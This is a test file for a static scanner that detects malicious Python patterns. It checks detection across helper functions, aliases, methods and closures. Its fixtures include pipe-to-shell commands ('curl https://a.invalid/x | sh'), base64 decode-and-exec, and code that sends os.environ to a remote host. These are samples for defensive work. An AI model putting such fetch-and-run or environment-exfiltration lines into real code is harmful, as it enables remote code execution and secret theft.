/** What is left out must not be what matters: calls through names, helpers and fields of the same source. */
import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { analysePython } from '../../../src/scanners/code/python/analyse.js';
import { reachOf } from '../../../src/scanners/code/python/reach.js';
import { makeTokens } from '../../../src/scanners/code/python/tokens.js';
import { tokenize } from '../../../src/scanners/code/python/tokenizer.js';

const code = Buffer.from('print(1) # a text that is long enough to be a payload').toString('base64');

const found: readonly (readonly [title: string, source: string, what: string])[] = [
  [
    'a decoder and exec in helpers',
    `import base64\ndef one(x):\n    return base64.b64decode(x)\ndef two(x):\n    exec(x)\ndef main():\n    two(one("${code}"))\n`,
    'decode-and-execute',
  ],
  [
    'helpers of helpers',
    `import base64\ndef a(x):\n    return base64.b64decode(x)\ndef b(x):\n    return a(x)\ndef c(x):\n    exec(x)\ndef d(x):\n    c(x)\ndef main():\n    d(b("${code}"))\n`,
    'decode-and-execute',
  ],
  [
    'methods',
    `import base64\nclass A:\n    def run(self):\n        self.two(self.one())\n    def one(self):\n        return base64.b64decode("${code}")\n    def two(self, x):\n        exec(x)\n`,
    'decode-and-execute',
  ],
  [
    'an alias of a module in a function',
    'import subprocess as quiet\ndef f():\n    quiet.call("curl https://a.invalid/x | sh", shell=True)\n',
    'spawn-interpreter',
  ],
  [
    'a name that an import gives',
    'from os import system as s\ndef f():\n    s("curl https://a.invalid/x | sh")\n',
    'spawn-interpreter',
  ],
  [
    'a name that the module gives',
    'import os\nrun = os.system\nagain = run\ndef f():\n    again("curl https://a.invalid/x | sh")\n',
    'spawn-interpreter',
  ],
  [
    'everything of a module',
    'from subprocess import *\ndef f():\n    call("curl https://a.invalid/x | sh", shell=True)\n',
    'spawn-interpreter',
  ],
  ['a module handed on', 'import os\ndef f(o=os):\n    getattr(o, "sys" + "tem")("true")\n', 'spawn-process'],
  [
    'a list of the module that a function fills',
    'import os, requests\nheld = []\ndef one():\n    held.append(dict(os.environ))\ndef two():\n    requests.post("https://a.invalid", data=held)\n',
    'environment-sent',
  ],
  [
    'a function within a function',
    `import base64\ndef outer():\n    r = exec\n    def inner():\n        r(base64.b64decode("${code}"))\n    return inner\n`,
    'decode-and-execute',
  ],
  [
    'the environment in one function, the network in another',
    'import os, requests\ndef main():\n    send(take())\ndef take():\n    return dict(os.environ)\ndef send(x):\n    requests.post("https://a.invalid", data=x)\n',
    'environment-sent',
  ],
  [
    'a process of a helper that runs at import',
    'import subprocess\ndef helper(x):\n    return subprocess.run(x)\ndef start():\n    return helper(["true"])\nstart()\n',
    'spawn-process import',
  ],
  [
    'an address in a function of its own',
    'import requests\ndef where():\n    return "https://webhook.site/0000"\ndef other(x):\n    return requests.get(x)\n',
    'suspicious-host',
  ],
];

describe('code: functions that are left out', () => {
  for (const [title, source, what] of found) {
    it(`sees ${title}`, () => {
      const signals = analysePython({ source: Buffer.from(source), path: 'a/b.py', moment: 'import' });
      assert.ok(
        signals.some(({ what: one, moment }) => one === what || `${one} ${moment}` === what),
        JSON.stringify(signals.map((signal) => signal.what)),
      );
    });
  }

  it('leaves out a function of which no word tells, and finds the end of its block', () => {
    const source = Buffer.from(
      'import subprocess\ndef plain(a):\n    if a:\n        return a + 1\n    return 2\ndef other():\n    subprocess.call(a)\n',
    );
    const tokens = makeTokens();
    tokenize(source, tokens);
    const reach = reachOf(source, tokens, source.toString('latin1'));
    const indent = tokens.kinds.indexOf(8);
    const end = reach.blockEnd(indent);
    assert.equal(tokens.kinds[end], 9);
    assert.equal(reach.tells(indent, end), false);
    assert.equal(reach.tells(end, tokens.count), true);
    assert.equal(reach.followed, false);
  });

  it('reads on behind an indentation that nothing began', () => {
    const source =
      'import os\ndef f():\n    a = 1\n        b = 2\n    os.system("curl https://a.invalid/x | sh")\n';
    const signals = analysePython({ source: Buffer.from(source), path: 'a/b.py', moment: 'import' });
    assert.ok(signals.some(({ what }) => what === 'spawn-interpreter'));
  });

  it('stays linear where names go round in circles', () => {
    let source = 'import base64\n';
    for (let index = 0; index < 20_000; index += 1)
      source += `def f${index}():\n    return f${index + 1}()\n`;
    source += 'def f20000():\n    exec(base64.b64decode(x))\n';
    const signals = analysePython({ source: Buffer.from(source), path: 'a/b.py', moment: 'import' });
    assert.ok(signals.some(({ what }) => what === 'execute-code'));
  });
});
